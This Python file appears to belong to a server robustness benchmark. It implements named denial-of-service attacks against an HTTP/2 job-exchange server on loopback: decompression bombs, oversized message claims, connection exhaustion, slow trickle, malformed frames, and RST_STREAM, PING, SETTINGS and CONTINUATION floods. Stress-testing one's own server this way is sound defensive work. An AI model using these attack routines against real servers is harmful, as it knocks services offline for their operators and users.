"""The stranger's attacks. Each one lasts until `end` (on the monotonic clock) and counts its actions.

All of them stay on loopback and hold at most `Attack.connections` connections.
"""

from __future__ import annotations

import collections
import dataclasses
import os
import random
import signal
import socket
import time
import zlib
from collections.abc import Callable

from bench.strangers import http2
from bench.strangers.http2 import Connection, fields, frame, message

# ExchangeMessage.Kind
HELLO, INITIAL_PARAMETERS, GRADIENT, FETCH_STATE, SUM, FINISH, ABORT, SHARE = 1, 2, 5, 6, 7, 8, 9, 10

WIRE_VERSION = 4  # kWireVersion

BOMB_BYTES = 256 << 20
PACKED_BOMBS: dict[str, bytes] = {}  # by encoding; prepare() fills it
PARALLEL = 32


def prepare() -> None:
    """Packs the bombs. That takes seconds, so it happens before any attack is timed."""
    # zlib's numbers: 31 asks for gzip's container, 15 for zlib's own, which HTTP calls deflate.
    for encoding, bits in (("gzip", 31), ("deflate", 15)):
        packer = zlib.compressobj(6, zlib.DEFLATED, bits)
        block = bytes(1 << 20)
        PACKED_BOMBS[encoding] = b"".join(packer.compress(block) for _ in range(BOMB_BYTES >> 20)) + packer.flush()


@dataclasses.dataclass
class Attack:
    """The state of one attack."""
    address: str
    end: float
    connections: int
    rng: random.Random
    counts: collections.Counter[str] = dataclasses.field(default_factory=collections.Counter)
    stopped: bool = False

    def going(self) -> bool:
        return not self.stopped and time.monotonic() < self.end

    def connect(self, preface: bool = True) -> Connection | None:
        """A new connection; None if the server refuses it."""
        try:
            connection = Connection(self.address, preface)
        except OSError:
            self.counts["refused"] += 1
            time.sleep(0.01)
            return None
        self.counts["connections"] += 1
        return connection

    def done_with(self, connection: Connection) -> None:
        connection.read(0)
        self.counts["answers"] += connection.answers
        self.counts["bytes"] += connection.sent_bytes
        self.counts["cut by the server"] += not connection.open
        connection.close()

    def each_connection(self, use: Callable[[Connection], None], preface: bool = True) -> None:
        """Calls `use(connection)` again and again, each time with a new connection."""
        while self.going():
            if connection := self.connect(preface):
                use(connection)
                self.done_with(connection)


def agreement(rng: random.Random) -> bytes:
    """A JobAgreement, plausible or not. Some ask for terabytes of parameters."""
    if rng.random() < 0.2:
        return rng.randbytes(rng.randrange(2000))
    return fields((1, rng.choice([1, 2, 2, 2, 1024, -1])), (2, rng.randbytes(16).hex().encode()),
                  (3, rng.choice([7850, 61706, 1 << 36, (1 << 63) - 1])), (4, rng.choice([0, 1 << 20, 1 << 40])),
                  (6, fields((1, rng.choice([0, 1])))), (10, rng.choice([0, 4 << 10, 128 << 10, 128 << 10])))


def join_request(rng: random.Random) -> bytes:
    return fields((1, rng.choice([b"", b"run", b"\x1b[2J\n\r" * 8000])), (2, rng.choice([0, 1, 2, -1, 1 << 30])),
                  (3, ("fixed64", rng.getrandbits(64))), (4, rng.choice([0, 0, 0, 5])), (5, rng.choice([1, 1, 2])),
                  (6, agreement(rng)), (7, rng.choice([100, 60000, (1 << 62)])), (8, rng.choice([100, 60000])),
                  (9, rng.choice([0, 3, WIRE_VERSION, WIRE_VERSION])), (10, rng.choice([b"", rng.randbytes(32)])),
                  (18, rng.choice([b"", proof(rng), rng.randbytes(4096)])))


def proof(rng: random.Random) -> bytes:
    """A RequestProof with codes of the right length, or not."""
    return fields((1, WIRE_VERSION), *((field, rng.randbytes(rng.choice([32, 32, 32, 7]))) for field in (2, 3, 4)))


def joins(attack: Attack) -> None:
    """Join requests of every rank and kind, without the token."""
    def use(connection: Connection) -> None:
        for _ in range(200):
            if not connection.open or not attack.going():
                break
            connection.call(attack.rng.choice(["Join"] * 9 + ["GetStatus"]), join_request(attack.rng))
            attack.counts["calls"] += 1
    attack.each_connection(use)


def hello(rng: random.Random) -> bytes:
    return fields((1, HELLO), (5, rng.choice([0, 1, 7])), (6, rng.randrange(16)),
                  (7, ("fixed64", rng.choice([0, 1, rng.getrandbits(64)]))))


def hellos(attack: Attack) -> None:
    """Lanes with guessed job ids, followed by the messages that a worker would send."""
    def use(connection: Connection) -> None:
        rng = attack.rng
        for _ in range(100):
            if not connection.open or not attack.going():
                break
            stream = connection.new_stream("Exchange")
            first = [hello(rng)] if rng.random() < 0.8 else []
            for payload in first + [
                    fields((1, GRADIENT), (2, rng.randrange(100)), (3, 0), (15, rng.randbytes(4096))),
                    fields((1, INITIAL_PARAMETERS), (15, rng.randbytes(4096))), fields((1, SUM), (15, bytes(64))),
                    fields((1, ABORT), (8, 13), (9, b"stranger")), fields((1, FETCH_STATE)), fields((1, SHARE)),
                    fields((1, FINISH))]:
                connection.send_data(stream, message(payload), patience_s=0.01)
            attack.counts["streams"] += 1
    attack.each_connection(use)


def big_messages(attack: Attack) -> None:
    """Messages that claim up to 4 GiB, of which the stranger sends as much as the server accepts."""
    block = bytes(1 << 20)
    open_ones: list[tuple[Connection, int]] = []
    while attack.going():
        if len(open_ones) < PARALLEL:
            if connection := attack.connect():
                stream = connection.new_stream(attack.rng.choice(["Join", "Exchange"]))
                if attack.rng.random() < 0.3:
                    connection.send_data(stream, message(hello(attack.rng)))
                length = attack.rng.choice([(1 << 32) - 1, 1 << 31, (64 << 20) + (64 << 10) + 1, 1 << 30])
                connection.send_data(stream, message(b"", length=length))
                open_ones.append((connection, stream))
                attack.counts["messages"] += 1
        for connection, stream in open_ones[:]:
            if connection.send_data(stream, block, patience_s=0.001) == 0:
                attack.done_with(connection)
                open_ones.remove((connection, stream))


def bombs(attack: Attack) -> None:
    """Compressed messages that are small on the wire and have 256 MiB when inflated."""
    def use(connection: Connection) -> None:
        for _ in range(4):
            encoding = attack.rng.choice(list(PACKED_BOMBS))
            stream = connection.new_stream(attack.rng.choice(["Join", "Exchange"]), encoding)
            connection.send_data(stream, message(PACKED_BOMBS[encoding], compressed=True), end=True)
            attack.counts["bombs"] += 1
            if not connection.open or not attack.going():
                break
    attack.each_connection(use)


def connections(attack: Attack) -> None:
    """As many open connections as allowed. Every second one begins to speak HTTP/2."""
    held = []
    host, _, port = attack.address.rpartition(":")
    for i in range(attack.connections):
        if not attack.going():
            break
        try:
            sock = socket.create_connection((host, int(port)), timeout=5)
            if i % 2:
                sock.sendall(http2.PREFACE + frame(http2.SETTINGS, 0, 0))
            held.append(sock)
            attack.counts["connections"] += 1
        except OSError:
            attack.counts["refused"] += 1
    while attack.going():
        time.sleep(0.05)
    for sock in held:
        sock.close()


def half_open(attack: Attack) -> None:
    """Streams that send nothing after their headers, and headers and messages that do not end."""
    held: list[Connection] = []
    while attack.going():
        held = [connection for connection in held if connection.read(0) or connection.open]
        if len(held) >= 4 * PARALLEL:
            time.sleep(0.02)
            continue
        connection = attack.connect()
        if connection is None:
            continue
        for i in range(200):
            if i % 20 == 19:
                stream = connection.new_stream("Exchange")
                connection.send_data(stream, message(b"\x08", length=20))
            else:
                connection.new_stream("Exchange")
            attack.counts["streams"] += 1
        if attack.rng.random() < 0.3:
            connection.send(frame(http2.HEADERS, 0, 1001, http2.headers("Join")))  # without END_HEADERS
        elif attack.rng.random() < 0.5:
            connection.send(frame(http2.DATA, 0, 1, bytes(16384))[:1000])
        held.append(connection)
    for connection in held:
        attack.done_with(connection)


def trickle(attack: Attack) -> None:
    """One byte per second, on many connections."""
    text = (http2.PREFACE + frame(http2.SETTINGS, 0, 0)
            + frame(http2.HEADERS, http2.END_HEADERS, 1, http2.headers("Exchange"))
            + frame(http2.DATA, 0, 1, message(hello(attack.rng))))
    # At the preface, at the first frame, and at the HELLO.
    starts = [0, len(http2.PREFACE), len(text) - 20]  # positions at which the trickle begins
    held: list[tuple[Connection, list[int]]] = []  # each with the position of its next byte
    while attack.going():
        while len(held) < 8 * PARALLEL and attack.going():
            connection = attack.connect(preface=False)
            if connection is None:
                break
            start = attack.rng.choice(starts)
            connection.send(text[:start])
            held.append((connection, [start]))
        for connection, at in held:
            connection.send(text[at[0]:at[0] + 1])
            connection.read(0)
            at[0] += 1
        for entry in [entry for entry in held if not entry[0].open or entry[1][0] >= len(text)]:
            attack.done_with(entry[0])
            held.remove(entry)
        next_second = time.monotonic() + 1
        while attack.going() and time.monotonic() < next_second:
            time.sleep(0.02)
    for connection, _ in held:
        attack.done_with(connection)


def random_bytes(attack: Attack) -> None:
    """Random bytes, from the first byte on or inside the frames of a valid connection."""
    def noise(connection: Connection) -> None:
        for _ in range(8):
            connection.send(os.urandom(attack.rng.randrange(1, 1 << 14)))

    def frames(connection: Connection) -> None:
        connection.send(http2.PREFACE + frame(http2.SETTINGS, 0, 0))
        for _ in range(32):
            payload = attack.rng.randbytes(attack.rng.randrange(200))
            kind, flags, stream = (attack.rng.randrange(most) for most in (12, 256, 64))
            connection.send(frame(kind, flags, stream, payload))

    attack.each_connection(lambda connection: attack.rng.choice([noise, frames])(connection), preface=False)


def floods(attack: Attack) -> None:
    """Frames that are cheap for the sender: resets, pings, settings, endless headers."""
    def resets(connection: Connection) -> None:
        for _ in range(500):
            stream = connection.new_stream("Exchange")
            # Error 8 is CANCEL, which a client sends when it no longer wants the answer.
            connection.send(frame(http2.RST_STREAM, 0, stream, bytes([0, 0, 0, 8])))

    def pings(connection: Connection) -> None:
        connection.send(b"".join(frame(http2.PING, 0, 0, os.urandom(8)) for _ in range(2000)))

    def settings(connection: Connection) -> None:
        connection.send(frame(http2.SETTINGS, 0, 0, bytes([0, 3, 0, 0, 0, 100])) * 2000)

    def endless_headers(connection: Connection) -> None:
        connection.send(frame(http2.HEADERS, 0, 1, http2.headers("Join")))
        junk = b"\0\x04junk\x7f\x00" + b"x" * 127
        for _ in range(200):
            connection.send(frame(http2.CONTINUATION, 0, 1, junk * 100))

    def use(connection: Connection) -> None:
        attack.rng.choice([resets, pings, settings, endless_headers])(connection)
        connection.read(0)
        attack.counts["floods"] += 1
    attack.each_connection(use)


ATTACKS = {
    "joins": joins,
    "hellos": hellos,
    "big": big_messages,
    "bombs": bombs,
    "connections": connections,
    "half-open": half_open,
    "trickle": trickle,
    "random": random_bytes,
    "floods": floods,
}


def run(name: str, address: str, end: float, connection_count: int, seed: int) -> dict[str, int]:
    """Runs one attack until its end or SIGUSR1, and returns its counts."""
    attack = Attack(address=address, end=end, connections=connection_count, rng=random.Random(seed))

    def stop(*_: object) -> None:
        attack.stopped = True
    signal.signal(signal.SIGUSR1, stop)
    ATTACKS[name](attack)
    return dict(attack.counts)
